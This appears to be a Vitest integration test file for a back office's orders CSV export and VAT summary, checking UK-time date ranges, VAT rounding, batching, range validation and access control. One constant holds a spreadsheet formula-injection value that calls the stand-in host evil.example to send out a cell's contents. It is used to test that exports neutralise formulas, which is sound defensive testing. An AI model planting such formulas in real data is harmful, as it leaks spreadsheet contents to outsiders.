import { parse } from 'csv-parse/sync';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ORDER_EXPORT_COLUMNS } from '#domain/orders-export';
import type { VatSummaryResponse } from '#shared/schemas/orders-export';
import { orders } from '#server/features/orders/orders.tables';
import { signInAdmin } from '#test-support/admin';
import {
  customerAtVatRate,
  placeOrder,
  placedAt,
  setOrderStatus,
} from '#test-support/placed-orders';
import { createTestApp, type TestApp } from '#test-support/test-app';

// The orders export for the books: its rows and its VAT summary against orders placed here,
// through checkout and the back office, on both sides of the range's UK-time edges.
let t: TestApp;
let admin: string;
const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Invoice")';
const ids: Record<string, number> = {};

beforeAll(async () => {
  t = await createTestApp({ config: { rateLimits: false } });
  admin = await signInAdmin(t.app);
  const standard = await customerAtVatRate(t, admin, 20);
  const zero = await customerAtVatRate(t, admin, 0);
  const orderAt = async (
    name: string,
    instant: string,
    status: 'pending' | 'confirmed' | 'cancelled',
    place: () => Promise<number>,
  ) => {
    ids[name] = await place();
    if (status !== 'pending') await setOrderStatus(t, admin, ids[name], status);
    await placedAt(t, ids[name], instant);
  };
  // 1 March 00:00 in London (GMT) is the range's first instant.
  await orderAt('standard', '2026-03-01T00:00:00Z', 'confirmed', () =>
    placeOrder(t, { totalPrice: '693.60', companyName: 'Standard Rate Ltd' }, standard),
  );
  await orderAt('reduced', '2026-03-10T12:00:00Z', 'confirmed', () => placeOrder(t));
  await orderAt('zero', '2026-03-15T09:00:00Z', 'confirmed', () =>
    placeOrder(t, { quantity: 1.5, totalPrice: '433.50' }, zero),
  );
  // 433.50 + 5% is 455.175: the VAT rounds half up to 21.68.
  await orderAt('pending', '2026-03-20T10:00:00Z', 'pending', () =>
    placeOrder(t, { quantity: 1.5, totalPrice: '455.18', companyName: HYPERLINK }),
  );
  await orderAt('cancelled', '2026-03-21T10:00:00Z', 'cancelled', () =>
    placeOrder(t, { quantity: 1, totalPrice: '303.45' }),
  );
  // Either side of the range: 28 Feb 23:59:59 GMT, and 1 April 00:30 BST (31 March in UTC).
  await orderAt('before', '2026-02-28T23:59:59Z', 'confirmed', () => placeOrder(t));
  await orderAt('after', '2026-03-31T23:30:00Z', 'confirmed', () =>
    placeOrder(t, { totalPrice: '693.60' }, standard),
  );
});
afterAll(async () => t.close());

const get = (url: string, cookie: string | null = admin) =>
  t.app.inject({ method: 'GET', url, headers: cookie ? { cookie } : {} });

const MARCH = 'from=2026-03-01&to=2026-03-31';

async function exportedRows(query: string): Promise<Record<string, string>[]> {
  const response = await get(`/api/admin/exports/orders.csv?${query}`);
  expect(response.statusCode).toBe(200);
  return parse<Record<string, string>>(response.body, { bom: true, columns: true });
}

describe('the orders CSV', () => {
  it('is a download named after its range, with a byte-order mark for spreadsheets', async () => {
    const response = await get(`/api/admin/exports/orders.csv?${MARCH}`);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toBe(
      'attachment; filename="orders-2026-03-01-to-2026-03-31.csv"',
    );
    expect(response.body.startsWith('\ufeffOrder number,Order date,')).toBe(true);
    expect(response.body.split('\r\n')[0]).toBe(`\ufeff${ORDER_EXPORT_COLUMNS.join(',')}`);
  });

  it('holds one row per order placed in the range in UK time, oldest first', async () => {
    const rows = await exportedRows(MARCH);
    expect(rows.map((row) => Number(row['Order number']))).toEqual(
      ['standard', 'reduced', 'zero', 'pending', 'cancelled'].map((name) => ids[name]),
    );
  });

  it('writes each order as stored: dates ISO, amounts with two decimals, net + VAT = gross', async () => {
    const rows = await exportedRows(MARCH);
    const byId = new Map(rows.map((row) => [Number(row['Order number']), row]));
    expect(byId.get(ids.standard!)).toMatchObject({
      'Order date': '2026-03-01',
      'Placed at (UTC)': '2026-03-01T00:00:00.000Z',
      Customer: 'Ada Lovelace',
      Company: 'Standard Rate Ltd',
      Region: 'Doncaster',
      Tonnes: '2.0',
      'Unit price': '289.00',
      Net: '578.00',
      'VAT rate (%)': '20',
      VAT: '115.60',
      Gross: '693.60',
      Status: 'confirmed',
      'Payment status': 'pending',
      'Invoice number': '',
    });
    expect(byId.get(ids.pending!)).toMatchObject({
      Net: '433.50',
      'VAT rate (%)': '5',
      VAT: '21.68',
      Gross: '455.18',
      Status: 'pending',
    });
    const stored = await t.database.db.select().from(orders);
    for (const order of stored.filter((o) => byId.has(o.id))) {
      const row = byId.get(order.id)!;
      expect(row.Gross).toBe(order.totalPrice);
      expect(row.VAT).toBe(order.vatAmount);
      expect(Math.round(Number(row.Net) * 100) + Math.round(Number(row.VAT) * 100)).toBe(
        Math.round(Number(row.Gross) * 100),
      );
    }
  });

  it('writes a company name that is a formula as text a spreadsheet will not run', async () => {
    const rows = await exportedRows(MARCH);
    const pending = rows.find((row) => Number(row['Order number']) === ids.pending);
    expect(pending?.Company).toBe(`'${HYPERLINK}`);
  });

  it('exports every order of a long range exactly once, across batches and equal times', async () => {
    // 6,000 orders placed in the same microsecond, more than a batch: none repeated or skipped.
    await t.database.db.execute(sql`
      insert into orders (first_name, last_name, email, phone, address_line1, city, postcode,
        region, quantity, unit_price, vat_amount, total_price, created_at)
      select 'Bulk', 'Buyer ' || n, 'bulk' || n || '@example.com', '01632 960000',
        '1 Mill Lane', 'Hull', 'HU1 1AA', 'Hull', 1.0, 289.00, 14.45, 303.45,
        '2025-06-10 10:00:00.123456+00'
      from generate_series(1, 6000) as n`);
    const rows = await exportedRows('from=2025-06-10&to=2025-06-10');
    const numbers = rows.map((row) => Number(row['Order number']));
    expect(numbers).toHaveLength(6000);
    expect(new Set(numbers).size).toBe(6000);
    expect(numbers).toEqual([...numbers].sort((a, b) => a - b));
  });
});

describe('the VAT summary', () => {
  it('sums the confirmed orders of the range per rate, every rate shown', async () => {
    const response = await get(`/api/admin/exports/vat-summary?${MARCH}`);
    expect(response.statusCode).toBe(200);
    expect(response.json<VatSummaryResponse>()).toEqual({
      from: '2026-03-01',
      to: '2026-03-31',
      rates: [
        { vatRate: 0, orders: 1, net: '433.50', vat: '0.00', gross: '433.50' },
        { vatRate: 5, orders: 1, net: '578.00', vat: '28.90', gross: '606.90' },
        { vatRate: 20, orders: 1, net: '578.00', vat: '115.60', gross: '693.60' },
      ],
      total: { orders: 3, net: '1589.50', vat: '144.50', gross: '1734.00' },
    });
  });

  it('agrees with the confirmed rows of the CSV', async () => {
    const rows = (await exportedRows(MARCH)).filter((row) => row.Status === 'confirmed');
    const summary = (
      await get(`/api/admin/exports/vat-summary?${MARCH}`)
    ).json<VatSummaryResponse>();
    for (const rate of summary.rates) {
      const atRate = rows.filter((row) => Number(row['VAT rate (%)']) === rate.vatRate);
      const pence = (field: string) =>
        atRate.reduce((sum, row) => sum + Math.round(Number(row[field]) * 100), 0);
      expect(atRate).toHaveLength(rate.orders);
      expect(Math.round(Number(rate.net) * 100)).toBe(pence('Net'));
      expect(Math.round(Number(rate.vat) * 100)).toBe(pence('VAT'));
    }
  });

  it('downloads as CSV with a total line', async () => {
    const response = await get(`/api/admin/exports/vat-summary.csv?${MARCH}`);
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-disposition']).toBe(
      'attachment; filename="vat-summary-2026-03-01-to-2026-03-31.csv"',
    );
    expect(parse(response.body, { bom: true })).toEqual([
      ['VAT rate (%)', 'Orders', 'Net', 'VAT', 'Gross'],
      ['0', '1', '433.50', '0.00', '433.50'],
      ['5', '1', '578.00', '28.90', '606.90'],
      ['20', '1', '578.00', '115.60', '693.60'],
      ['Total', '3', '1589.50', '144.50', '1734.00'],
    ]);
  });
});

describe('bad ranges', () => {
  it.each([
    ['from=2026-03-31&to=2026-03-01', 'The start date must be on or before the end date'],
    ['from=2026-03-01', 'The end date must be a date (YYYY-MM-DD)'],
    ['to=2026-03-01', 'The start date must be a date (YYYY-MM-DD)'],
    ['', 'Invalid request'],
    ['from=2024-03-01&to=2026-03-01', 'An export covers at most 2 years'],
    ['from=2026-02-30&to=2026-03-01', 'The start date must be a date (YYYY-MM-DD)'],
    ['from=01/03/2026&to=2026-03-31', 'The start date must be a date (YYYY-MM-DD)'],
    [`${MARCH}&status=confirmed`, 'Unrecognized key: "status"'],
  ])('%j is refused with a message and no file', async (query, message) => {
    for (const path of ['orders.csv', 'vat-summary', 'vat-summary.csv']) {
      const response = await get(`/api/admin/exports/${path}?${query}`);
      expect(response.statusCode, path).toBe(400);
      expect(response.headers['content-type']).toMatch(/^application\/json/);
      expect(response.headers['content-disposition']).toBeUndefined();
      expect(response.json().message).toBe(message);
    }
  });

  it('accepts a range of just under two years', async () => {
    const response = await get('/api/admin/exports/vat-summary?from=2024-03-01&to=2026-02-28');
    expect(response.statusCode).toBe(200);
  });

  it('gives nothing without the back-office session', async () => {
    for (const path of ['orders.csv', 'vat-summary', 'vat-summary.csv']) {
      const response = await get(`/api/admin/exports/${path}?${MARCH}`, null);
      expect(response.statusCode).toBe(401);
      expect(response.body).not.toContain('Lovelace');
    }
  });
});

describe('invoice numbers', () => {
  it("writes the order's standing invoice number as printed, and '' without one", async () => {
    const setVatNumber = await t.app.inject({
      method: 'PATCH',
      url: '/api/settings',
      headers: { cookie: admin },
      payload: [{ key: 'vat_number', value: 'GB123456789' }],
    });
    expect(setVatNumber.statusCode).toBe(200);
    const issued = await t.app.inject({
      method: 'POST',
      url: `/api/orders/${ids.standard}/invoice`,
      headers: { cookie: admin },
    });
    expect(issued.statusCode).toBe(201);
    const { number } = issued.json<{ number: number }>();

    const byId = new Map(
      (await exportedRows(MARCH)).map((row) => [Number(row['Order number']), row]),
    );
    expect(byId.get(ids.standard!)?.['Invoice number']).toBe(String(number).padStart(6, '0'));
    expect(byId.get(ids.reduced!)?.['Invoice number']).toBe('');
  });
});
